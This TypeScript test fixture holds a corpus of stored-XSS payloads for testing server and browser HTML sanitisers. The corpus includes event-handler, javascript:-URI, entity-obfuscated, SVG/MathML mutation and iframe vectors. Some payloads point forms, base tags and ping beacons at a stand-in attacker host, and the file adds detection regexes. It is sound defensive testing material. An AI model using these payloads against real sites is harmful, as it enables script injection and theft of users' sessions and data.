// Stored XSS: the payload corpus that both sanitising passes must defuse, the server's before
// storing (functions/test/unit/sanitize-html.test.ts) and the browser's before rendering
// (web/src/lib/sanitize-article-html.test.ts), with what must never come out of them. Both passes
// keep one allowlist: nothing that runs, styles, frames, submits or embeds survives.

export const XSS_PAYLOADS = [
  `<img src=x onerror="alert(1)">`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="JaVaScRiPt:alert(1)">click</a>`,
  `<a href="&#106;avascript:alert(1)">entity</a>`,
  `<a href="java&#x09;script:alert(1)">tab</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">data link</a>`,
  `<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" alt="pixel">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg onload="alert(1)"><circle r="5"/></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="1" y="1">svg link</text></a></svg>`,
  `<svg><image href="data:image/png;base64,AAAA"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">math</maction></math>`,
  `<form action="https://evil.example"><input name="p"><button>Send</button></form>`,
  `<object data="https://evil.example/x.swf"></object><embed src="x.swf">`,
  `<div style="background:url(javascript:alert(1))">styled</div>`,
  `<p onclick="alert(1)" onmouseover="alert(2)">handlers</p>`,
  `<p class="login-box" id="login" name="user" data-track="1" aria-label="x">attributes</p>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>body{display:none}</style>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<details open ontoggle="alert(1)"><summary>x</summary></details>`,
  `<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`,
  `<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">`,
  `<a href="https://ok.example" target="_self" ping="https://evil.example">ok</a>`,
];

/** Elements that run, style, frame, submit, embed or carry foreign markup (SVG, MathML). */
export const FORBIDDEN_ELEMENTS =
  /<(?:script|iframe|svg|math|form|input|button|object|embed|base|meta|link|style|template|video|audio|source|image|details)\b/i;

/** Handlers, script and data addresses, styles, and attributes outside the allowlist. */
export const FORBIDDEN_ATTRIBUTES =
  /\son\w+=|javascript:|vbscript:|data:|srcdoc|srcset|\sstyle=|\sping=|\sclass=|\sid=|\sname=|\sdata-|\saria-|xlink|target="_self"/i;

/** Ordinary article markup: all of it must survive both passes. */
export const ORDINARY_ARTICLE =
  `<h2>Title</h2><p>A <strong>bold</strong> <em>claim</em> with a <a href="https://example.com/x">link</a>.</p>` +
  `<blockquote>Quote</blockquote><ul><li>One</li></ul><img src="https://example.com/a.png" alt="A">`;
